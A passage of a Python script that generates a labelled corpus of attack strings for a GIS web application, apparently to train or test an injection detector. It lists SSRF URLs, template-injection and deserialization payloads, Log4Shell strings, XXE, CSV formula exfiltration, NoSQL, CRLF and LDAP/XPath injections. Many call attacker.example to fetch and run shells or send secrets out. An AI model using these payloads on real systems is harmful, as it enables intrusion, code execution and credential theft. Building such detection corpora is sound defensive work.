    ("remote_layer_url-alibaba_metadata", "http://100.100.100.200/latest/meta-data/"),
    ("tile_template-imds+decimal_ip", "http://2852039166/latest/meta-data/"),
    ("wms_cascade_url-imds+hex_ip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("remote_geojson_url-imds+octal_ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("remote_geojson_url-imds+ipv6_mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("remote_geojson_url-aws_imds_ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("wms_cascade_url-localhost_geoserver_rest", "http://localhost:8080/geoserver/rest/security/usergroup/users.json"),
    ("tile_template-loopback+short_ip", "http://127.1:9200/_cat/indices?v"),
    ("remote_layer_url-zero_ip_redis", "http://0.0.0.0:6379/"),
    ("remote_layer_url-ipv6_loopback", "http://[::1]:5984/_all_dbs"),
    ("remote_layer_url-dns_rebind", "http://127-0-0-1.rebind.attacker.example:8080/geoserver/rest/workspaces.json"),
    ("wms_cascade_url-userinfo_confusion", "http://attacker.example@127.0.0.1:8983/solr/admin/cores?action=STATUS"),
    ("capabilities_url-fragment_confusion", "http://127.0.0.1:8080/admin#@tiles.example.net/wms"),
    ("tile_template-allowed_host_userinfo", "https://tiles.example.net@169.254.169.254/latest/meta-data/"),
    ("remote_geojson_url-open_redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("wms_cascade_url-gopher_redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0A"),
    ("remote_layer_url-dict_memcached", "dict://127.0.0.1:11211/stats"),
    ("remote_geojson_url-file_scheme", "file:///etc/passwd"),
    ("kml_network_link-file_scheme_environ", "file:///proc/self/environ"),
    ("remote_layer_url-file_localhost", "file://localhost/etc/shadow"),
    ("remote_layer_url-file_win", "file:///C:/Windows/win.ini"),
    ("gdal_dataset_path-vsicurl_imds", "/vsicurl/http://169.254.169.254/latest/meta-data/iam/info"),
    ("gdal_dataset_path-vsicurl_query+urlenc", "/vsicurl?url=http%3A%2F%2F127.0.0.1%3A8080%2Fgeoserver%2Frest%2Fsettings.json"),
    ("wms_cascade_url-internal_capabilities", "http://10.0.0.12:8080/geoserver/ows?service=WMS&request=GetCapabilities"),
    ("remote_layer_url-router_admin", "http://192.168.1.1/cgi-bin/luci"),
    ("remote_layer_url-docker_api", "http://172.17.0.1:2375/containers/json?all=1"),
    ("remote_layer_url-k8s_api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("remote_layer_url-consul_kv", "http://consul.service.consul:8500/v1/kv/?recurse"),
    ("sld_url-java_netdoc", "netdoc:///etc/passwd"),
    ("tile_template-imds_placeholders", "http://169.254.169.254/latest/user-data?{z}/{x}/{y}"),
    ("tile_template-zero_host", "http://0/server-status"),
    ("tile_template-loopback+octal_ip", "http://0177.0.0.1:8080/manager/html"),
    ("remote_layer_url-loopback+decimal_ip", "http://2130706433:8080/geoserver/web/"),
    ("remote_layer_url-loopback+enclosed_alnum", "http://①②⑦.⓪.⓪.①:8080/"),
    ("remote_layer_url-loopback+urlenc_host", "http://%31%32%37%2e%30%2e%30%2e%31:9200/_search"),
    ("sld_external_graphic-imds", "<ExternalGraphic><OnlineResource xlink:type=\"simple\" xlink:href=\"http://169.254.169.254/latest/meta-data/\"/><Format>image/png</Format></ExternalGraphic>"),
    ("wms_sld_param-internal", "http://10.0.0.3:8080/admin/config.xml"),
    ("remote_layer_url-loopback+ipv6_mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/actuator/env"),
    ("remote_layer_url-loopback+hex_dotted", "http://0x7f.0x0.0x0.0x1:8080/actuator/heapdump"),
    ("remote_layer_url-ecs_credentials", "http://169.254.170.2/v2/credentials/"),
    ("remote_layer_url-imds_alias_host", "http://instance-data/latest/meta-data/hostname"),
    ("webhook_url-prometheus_admin", "http://localhost:9090/api/v1/admin/tsdb/delete_series?match[]=up"),
    ("thumbnail_url-internal_storage_admin", "http://minio.internal:9000/minio/admin/v3/info"),
    ("wmts_capabilities_url-gopher_smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cmap%40example.org%3E%0D%0ARCPT%20TO%3A%3Cvictim%40example.org%3E%0D%0ADATA%0D%0ASubject%3A%20hi%0D%0A%0D%0Aspam%0D%0A.%0D%0AQUIT%0D%0A"),
    ("remote_layer_url-ldap_internal", "ldap://127.0.0.1:389/dc=example,dc=org??sub?(objectClass=*)"),
    ("remote_layer_url-ftp_internal", "ftp://10.0.0.5/backups/db.sql.gz"),
    ("plain-aws_imds", "http://169.254.169.254/latest/meta-data/"),
    ("plain-localhost", "http://localhost/admin"),
    ("plain-loopback_port", "http://127.0.0.1:22/"),
    ("plain-file_scheme", "file:///etc/hosts"),
]

# ---------------------------------------------------------------------------
# code: SSTI, expression languages, GeoTools property evaluation, XXE,
# Log4Shell lookups, deserialization, prototype pollution, CSV formulas
# ---------------------------------------------------------------------------
CODE = [
    ("popup_template-jinja2_cycler", "{{ feature.name }} {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("map_title_template-jinja2_lipsum", "{{ lipsum.__globals__['os'].popen('curl -s attacker.example/j|sh').read() }}"),
    ("label_template-jinja2_request_builtins", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("report_template-jinja2_subclasses", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c('id', shell=True, stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("popup_template-jinja2_attr+hex_escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("legend_template-twig_filter_system", "{{ ['cat /etc/passwd']|filter('system') }}"),
    ("print_template-freemarker_execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("gfi_template-freemarker_objectconstructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"sh\",\"-c\",\"curl attacker.example/f|sh\"]).start()}"),
    ("gfi_template-velocity_runtime", "#set($s='')#set($rt=$s.getClass().forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("layer_title-thymeleaf_preprocess", "__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}__::.x"),
    ("style_name-spel_runtime", "#{T(java.lang.Runtime).getRuntime().exec('nslookup spel.attacker.example')}"),
    ("filter_expr-spel_processbuilder", "${new java.lang.ProcessBuilder({'sh','-c','id'}).start()}"),
    ("layer_param-ognl_runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("wfs_value_reference-jxpath_exec", "exec(java.lang.Runtime.getRuntime(),'touch /tmp/geo')"),
    ("wfs_property_name-jxpath_sleep", "java.lang.Thread.sleep(6000)"),
    ("jsp_label-el_reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("erb_popup-backtick", "<%= `id` %>"),
    ("erb_popup-system", "<%= system(\"curl -s attacker.example/r|sh\") %>"),
    ("mako_report-module_os", "${self.module.cache.util.os.system(\"id\")}"),
    ("mako_report-python_block", "<%\nimport os\nos.system(\"curl -s attacker.example/m|sh\")\n%>"),
    ("tornado_template-import", "{% import os %}{{ os.popen(\"id\").read() }}"),
    ("smarty_label-system", "{system('id')}"),
    ("pug_popup-global_process", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ejs_popup-child_process", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("nunjucks_title-range_constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("pebble_label-getclass", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}"),
    ("razor_label-process_start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("field_calculator_py-import_os", "__import__('os').system('id')"),
    ("field_calculator_py-subclasses_popen", "[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='Popen'][0]('id',shell=True)"),
    ("arcgis_field_calc_py-subprocess", "!SHAPE!.area + len(__import__('subprocess').check_output(['cat','/etc/passwd']))"),
    ("style_function_js-constructor_process", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("style_function_js-require", "feature.get('name')+require('child_process').execSync('id')"),
    ("kml_upload-xxe_file", "<?xml version=\"1.0\"?>\n<!DOCTYPE kml [<!ENTITY loc SYSTEM \"file:///etc/passwd\">]>\n<kml xmlns=\"http://www.opengis.net/kml/2.2\"><Placemark><name>&loc;</name><Point><coordinates>10.75,59.91</coordinates></Point></Placemark></kml>"),
    ("wfs_transaction-xxe_oob_param", "<?xml version=\"1.0\"?>\n<!DOCTYPE wfs:Transaction [<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;]>\n<wfs:Transaction service=\"WFS\" version=\"1.1.0\" xmlns:wfs=\"http://www.opengis.net/wfs\"/>"),
    ("gpx_upload-xxe_env", "<?xml version=\"1.0\"?><!DOCTYPE gpx [<!ENTITY t SYSTEM \"file:///srv/app/.env\">]><gpx version=\"1.1\" creator=\"x\"><wpt lat=\"46.5\" lon=\"6.6\"><name>&t;</name></wpt></gpx>"),
    ("sld_upload-xxe_ssrf", "<?xml version=\"1.0\"?>\n<!DOCTYPE StyledLayerDescriptor [<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]>\n<StyledLayerDescriptor version=\"1.0.0\"><NamedLayer><Name>&e;</Name></NamedLayer></StyledLayerDescriptor>"),
    ("iso_metadata-xinclude", "<gmd:abstract xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></gmd:abstract>"),
    ("gml_upload-entity_expansion", "<?xml version=\"1.0\"?><!DOCTYPE g [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><gml:featureMember xmlns:gml=\"http://www.opengis.net/gml\">&f;</gml:featureMember>"),
    ("svg_icon_upload-xxe_file", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"0\" y=\"12\">&h;</text></svg>"),
    ("xslt_metadata_transform-unparsed_text", "<xsl:value-of select=\"unparsed-text('/etc/passwd')\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>"),
    ("layer_name-log4j_jndi_ldap", "roads ${jndi:ldap://attacker.example:1389/a}"),
    ("survey_note-log4j_lower_obfuscation", "${${lower:j}ndi:${lower:r}mi://203.0.113.21/o}"),
    ("client_name_field-log4j_default_obfuscation", "${${::-j}${::-n}${::-d}${::-i}:dns://l4.attacker.example/x}"),
    ("layer_title-log4j_env_exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/k}"),
    ("place_name-log4j_env_fallback", "Oslo ${${env:NaN:-j}ndi${env:NaN:-:}ldap://attacker.example/z}"),
    ("search_query-log4j+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("session_state-pickle_protocol0", "cposix\nsystem\n(Vcurl -s https://attacker.example/pk|sh\ntR."),
    ("map_state_cookie-pickle+base64", "Y3Bvc2l4CnN5c3RlbQooVmN1cmwgLXMgaHR0cHM6Ly9hdHRhY2tlci5leGFtcGxlL3BrfHNoCnRSLg=="),
    ("style_config_yaml-python_apply", "!!python/object/apply:os.system [\"curl -s attacker.example/y | sh\"]"),
    ("style_config_yaml-snakeyaml_scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("layer_state_php-object_injection", "O:16:\"TileCacheCleaner\":1:{s:4:\"path\";s:10:\"/srv/tiles\";}"),
    ("project_json-jsonnet_type_gadget", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("layer_config_json-jackson_jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("feature_json-fastjson_autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.30:1099/o\",\"autoCommit\":true}"),
    ("map_state-node_serialize_iife", "{\"view\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl -s attacker.example/n|sh')}()\"}"),
    ("geojson_properties-proto_pollution", "{\"type\":\"Feature\",\"properties\":{\"__proto__\":{\"isAdmin\":true}},\"geometry\":{\"type\":\"Point\",\"coordinates\":[0,0]}}"),
    ("layer_settings-constructor_prototype", "{\"constructor\":{\"prototype\":{\"allowedLayers\":[\"*\"]}}}"),
    ("style_query-proto_pollution_template_gadget", "style[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("map_options_path-dotted_proto", "__proto__.role=admin"),
    ("geojson_properties-proto_pollution+unicode_escape", "{\"properties\":{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"canEdit\":true}}}"),
    ("attribute_export_csv-hyperlink_exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&B2&C2,\"Open map\")"),
    ("attribute_export_csv-dde_cmd", "=cmd|' /C powershell -nop -c iwr attacker.example/c.ps1|iex'!A1"),
    ("attribute_export_csv-at_sum_dde", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("attribute_export_csv-importxml_exfil", "+IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:A20),\"//a\")"),
    ("attribute_export_csv-minus_dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("attribute_export_csv-webservice", "=WEBSERVICE(\"https://attacker.example/w?\"&A2&B2)"),
    ("station_name_csv-image_beacon", "=IMAGE(\"https://attacker.example/p.png?\"&A1)"),
    ("legend_html-ssi_exec", "<!--#exec cmd=\"id\" -->"),
    ("cached_tile_page-esi_include", "<esi:include src=\"http://169.254.169.254/latest/meta-data/\"/>"),
    ("rule_expression-jexl_runtime", "''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')"),
    ("plain-jinja2_subclasses", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("plain-log4j", "${jndi:ldap://attacker.example/a}"),
    ("plain-spel_getenv", "${T(java.lang.System).getenv()}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    ("plain-csv_formula", "=1+1+cmd|'/C calc'!A0"),
    ("plain-proto_pollution", "{\"__proto__\":{\"polluted\":true}}"),
    ("plain-yaml_python", "!!python/object/apply:subprocess.check_output [[\"id\"]]"),
]

CODE_LAYERS = ["roads", "parcels_2024", "Hydrants (north)", "Bäume", "flood_zones", "survey T4"]
CODE_JNDI = [("jndi_ldap", "${jndi:ldap://attacker.example/%s}"),
             ("jndi_dns", "${jndi:dns://%s.attacker.example/a}"),
             ("jndi_lower", "${${lower:jndi}:ldap://198.51.100.31:1389/%s}")]


def tpl_code(rng):
    layer = rng.choice(CODE_LAYERS)
    tag = "".join(rng.choice("abcdefghjkmnpqrstuvwxyz") for _ in range(5))
    if rng.random() < 0.6:
        tech, pat = rng.choice(CODE_JNDI)
        return f"layer_name-log4j_{tech}", f"{layer} {pat % tag}"
    return ("attribute_export_csv-hyperlink_exfil",
            f"=HYPERLINK(\"https://attacker.example/{tag}?n=\"&A2,\"{layer}\")")


# ---------------------------------------------------------------------------
# nosqli: value merged into MongoDB / CouchDB / Elasticsearch geo queries
# ---------------------------------------------------------------------------
NOSQLI = [
    ("plain-ne_null", "{\"$ne\": null}"),
    ("login_json-regex_ne", "{\"username\": {\"$regex\": \"^adm\"}, \"password\": {\"$ne\": \"\"}}"),
    ("geo_query_json-where_sleep", "{\"location\": {\"$nearSphere\": {\"$geometry\": {\"type\": \"Point\", \"coordinates\": [-122.33, 47.61]}}}, \"$where\": \"sleep(5000) || true\"}"),
    ("layer_filter_json-where_tautology", "{\"$where\": \"this.owner == 'x' || this.role == 'admin'\"}"),
    ("where_string-js_break", "'; return this.accessLevel > 0; var z='"),
    ("station_query-ne_bracket", "station_id[$ne]=1"),
    ("layer_query-regex_exists_bracket", "layer[$regex]=.*&owner[$exists]=true"),
    ("layer_filter_json-or_tautology", "{\"$or\": [{\"public\": true}, {\"public\": {\"$ne\": true}}]}"),
    ("geo_query_json-geowithin_world_gt", "{\"geometry\": {\"$geoWithin\": {\"$box\": [[-180, -90], [180, 90]]}}, \"owner\": {\"$gt\": \"\"}}"),
    ("filter_json-expr_function_sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(4000); return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("pipeline_stage-lookup_users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}, {\"$project\": {\"u.password\": 1}}]"),
    ("token_param-gt_empty", "{\"$gt\": \"\"}"),
    ("login_json-in_guesses", "{\"username\": \"surveyor\", \"password\": {\"$in\": [\"\", \"1234\", \"password\", \"survey2024\"]}}"),
    ("es_query_string-exists_injection", "name:Oslo OR _exists_:api_key"),
    ("es_search_body-script_fields", "{\"script_fields\": {\"k\": {\"script\": \"doc['api_key.keyword'].value\"}}}"),
    ("couchdb_mango-gt_null", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"_id\", \"password_hash\"]}"),
    ("filter_json-where_busy_loop", "{\"$where\": \"function(){ var d=new Date(); while(new Date()-d<5000){} return true; }\"}"),
    ("api_key_lookup-regex_prefix", "{\"api_key\": {\"$regex\": \"^sk_a\"}}"),
    ("where_string-or_equal", "admin' || '1'=='1"),
    ("owner_param-ne_bracket+urlenc", "owner%5B%24ne%5D=nobody"),
    ("filter_json-where+unicode_escape", "{\"\\u0024where\": \"sleep(3000)\"}"),
    ("properties_filter-not_eq", "{\"properties.owner\": {\"$not\": {\"$eq\": \"nobody\"}}, \"properties.private\": true}"),
    ("es_query_string-wildcard_all", "* OR owner:*"),
    ("plain-gt_bracket_login", "username[$gt]=&password[$gt]="),
    ("bbox_query_json-where_blind", "{\"$where\": \"if (this.password_hash && this.password_hash.charAt(0) == '$') { sleep(3000) } return true\"}"),
]

# ---------------------------------------------------------------------------
# crlf: value written to a log line, an HTTP header, an outbound request or a
# mail header
# ---------------------------------------------------------------------------
CRLF = [
    ("survey_note_log-forged_entry", "Transect T4 done\n2024-06-02T17:03:11Z INFO auth: user=admin role=admin login=success src=10.0.0.4"),
    ("download_filename_header-set_cookie", "parcels_2024.zip\r\nSet-Cookie: session=forged-0000; Path=/"),
    ("redirect_param-set_cookie+urlenc", "%0d%0aSet-Cookie:%20mapsid=fixated123"),
    ("redirect_param-location+urlenc", "/map?z=12%0D%0ALocation:%20https://attacker.example/"),
    ("export_filename_header-response_splitting", "export.csv\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("share_map_email-bcc", "crew-lead@example.org\nBcc: list@attacker.example"),
    ("share_map_subject-bcc", "Map shared: Harbour survey\r\nBcc: x@attacker.example"),
    ("share_map_from-reply_to", "Field Survey <noreply@example.org>\r\nReply-To: helpdesk@attacker.example"),
    ("redirect_param-set_cookie+utf8_newline_mojibake", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("json_header_field-custom_header+unicode_escape", "layer.zip\\u000d\\u000aX-Injected: 1"),
    ("survey_note_log-ansi_escape", "Plot 9 ok\x1b[2K\x1b[1A\x1b[2K2024-06-02 17:03:11 INFO backup completed"),
    ("layer_comment_log-json_line_forge", "note\n{\"level\":\"info\",\"msg\":\"export approved\",\"user\":\"admin\"}"),
    ("tile_refresh_log-syslog_forge", "Tile refresh ok\r\nMay 02 03:14:15 gis01 sshd[811]: Accepted password for root from 203.0.113.77 port 50222 ssh2"),
    ("survey_note_log-forged+urlenc", "Surveyed%0a[2024-05-01 10:00:00] WARN layer parcels deleted by admin"),
    ("redirect_param-html_body", "/viewer\r\n\r\n<html><body onload=\"location='https://attacker.example/'\"></body></html>"),
    ("share_map_body-smtp_smuggling", "Hello\r\n.\r\nMAIL FROM:<ops@example.org>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: Password reset\r\n\r\nReset here: https://attacker.example/reset\r\n.\r\n"),
    ("report_filename_header-content_type", "report.pdf\r\nContent-Type: text/html\r\n\r\n<h1>Session expired</h1>"),
    ("tile_proxy_url-request_splitting", "http://tiles.example.net/1/2/3.png HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\nGET /admin/flush HTTP/1.1\r\nHost: 127.0.0.1"),
    ("layer_name_header-link_stylesheet", "tiles\r\nLink: <https://attacker.example/evil.css>; rel=stylesheet"),
    ("crs_param_header-forwarded_host", "EPSG:4326\r\nX-Forwarded-Host: attacker.example"),
    ("contact_email-cc_header+urlenc", "gis-team@example.org%0ACc:%20bulk@attacker.example"),
    ("survey_note_log-cr_overwrite", "Hydrant 17 checked\r2024-06-02 09:00:00 INFO audit: all hydrants verified by supervisor"),
    ("survey_note_log-line_separator", "Bench #4 repaired\u2028[audit] 2024-06-02 user=admin action=approve_all"),
    ("download_filename_header-set_cookie+double_urlenc", "roads.zip%250d%250aSet-Cookie:%2520role=admin"),
    ("share_map_to-extra_headers", "surveyor@example.org\r\nTo: everyone@example.org\r\nSubject: Urgent: re-login at https://attacker.example/map"),
    ("callback_param-cors_header+urlenc", "initMap%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example"),
    ("plain-set_cookie+urlenc", "%0d%0aSet-Cookie: admin=true"),
    ("plain-header_injection", "foo\r\nX-Injected-Header: yes"),
    ("plain-log_forge", "user\n[INFO] Login successful for admin"),
]

CRLF_NOTES = ["Plot 14 surveyed", "Hydrant 4471 OK", "Culvert cleared", "T5 done", "Gate locked, retry Tue"]
CRLF_FORGED = ["2024-06-03 08:00:01 INFO user=admin action=grant role=editor target=guest",
               "2024-06-03 08:00:02 WARN integrity check skipped by operator",
               "2024-06-03 08:00:03 INFO export of layer owners approved"]


def tpl_crlf(rng):
    return "survey_note_log-forged_entry", f"{rng.choice(CRLF_NOTES)}\r\n{rng.choice(CRLF_FORGED)}"


# ---------------------------------------------------------------------------
# ldap-xpath: crew login / directory search (LDAP filter) and XPath searches
# over ISO 19139 / CSW catalogue records
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("crew_login_ldap-wildcard_or", "*)(uid=*))(|(uid=*"),
    ("crew_login_ldap-and_true", "admin)(&)"),
    ("directory_search_ldap-group_membership", "*)(memberOf=cn=gis-admins,ou=groups,dc=example,dc=org"),
    ("crew_login_ldap-password_probe", "surveyor*)(userPassword=a*"),
    ("crew_login_ldap-close+null_byte", "*)(objectClass=*))%00"),
    ("crew_login_ldap-wildcard_or+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("directory_search_ldap-attr_disclosure", "j*)(|(telephoneNumber=*)(mail=*"),
    ("directory_search_ldap-close_or", "*))(|(cn=*"),
    ("directory_search_ldap-not_filter", "x)(!(cn=nobody)"),
    ("csw_xpath_contains-or_true", "x') or true() or contains(., '"),
    ("csw_xpath_predicate-union_nodes", "'] | //gmd:contact//gco:CharacterString | //*['"),
    ("metadata_xpath-string_length", "x' or string-length(//user[1]/password)>8 or 'a'='b"),
    ("metadata_xpath-blind_name", "' or substring(name(/*[1]),1,1)='g' or 'a'='b"),
    ("csw_xpath-count_emails", "' or count(//gmd:electronicMailAddress)>0 or '"),
    ("metadata_xpath2-doc_oob", "x' or doc('http://attacker.example/x')/a or '"),
    ("layer_xpath_numeric-tautology", "0 or 1=1"),
    ("metadata_xpath-password_nodes", "']/../..//*[contains(local-name(),'password')] | //*['"),
    ("user_xpath-contains_blind", "' and contains(//user[name='admin']/pass, 'a') and '1'='1"),
    ("directory_search_ldap-description_or", "*)(|(description=*gis*)(uid=*"),
    ("csw_xpath-or+urlenc", "%27%20or%20%271%27%3D%271"),
    ("plain-ldap_objectclass", "*)(|(objectClass=*)"),
    ("plain-xpath_or", "' or ''='"),
]

SECTIONS = [
    # category, literals, template, number of template values
    ("sqli", SQLI, tpl_sqli, 10),
    ("xss", XSS, tpl_xss, 8),
    ("cmdi", CMDI, tpl_cmdi, 8),
    ("traversal", TRAVERSAL, tpl_traversal, 5),
    ("ssrf", SSRF, None, 0),
    ("code", CODE, tpl_code, 3),
    ("nosqli", NOSQLI, None, 0),
    ("crlf", CRLF, tpl_crlf, 3),
    ("ldap-xpath", LDAP_XPATH, None, 0),
]


def _benign_values():
    """Values of the sibling benign corpus, to keep the two files disjoint."""
    sys.dont_write_bytecode = True  # keep the corpus directory free of __pycache__
    path = Path(__file__).with_name("make_benign.py")
    spec = importlib.util.spec_from_file_location("gis_make_benign", path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    rows, _ = mod.build()
    return {r["value"] for r in rows}


def build():
    rng = random.Random(SEED)
    benign = _benign_values()
    seen = set()
    rows = []
    stats = []
    for category, literals, template, n_tpl in SECTIONS:
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {category}: {v!r}")
            seen.add(v)
            items.append((cls, v))
        made = 0
        tries = 0
        while made < n_tpl:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"{category}: template cannot produce enough unique values")
            cls, v = template(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
            made += 1
        for cls, v in items:
            if not isinstance(v, str) or not v or len(v) > MAX_LEN:
                raise SystemExit(f"bad value in {category}: {v!r}")
            if v in benign:
                raise SystemExit(f"value also in benign corpus: {v!r}")
            ctx, sep, tech = cls.partition("-")
            if not sep or not ctx or not tech:
                raise SystemExit(f"bad class {cls!r}")
            rows.append((category, cls, v))
        stats.append((category, len(items), len(literals)))
    out = []
    for i, (category, cls, v) in enumerate(rows, 1):
        out.append({"id": f"{PREFIX}-{i:05d}", "category": category, "class": cls,
                    "label": "attack", "value": v})
    return out, stats


def main():
    rows, stats = build()
    path = Path(__file__).with_name("attacks.jsonl")
    with path.open("w", encoding="utf-8", newline="\n") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    total_lit = 0
    for category, n, lit in stats:
        total_lit += lit
        print(f"{category:12s} {n:4d}  literals {lit:3d}")
    plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    encoded = sum(1 for r in rows if "+" in r["class"])
    print(f"{'total':12s} {len(rows):4d}  literals {total_lit:3d}  plain {plain}  encoded {encoded}")


if __name__ == "__main__":
    main()
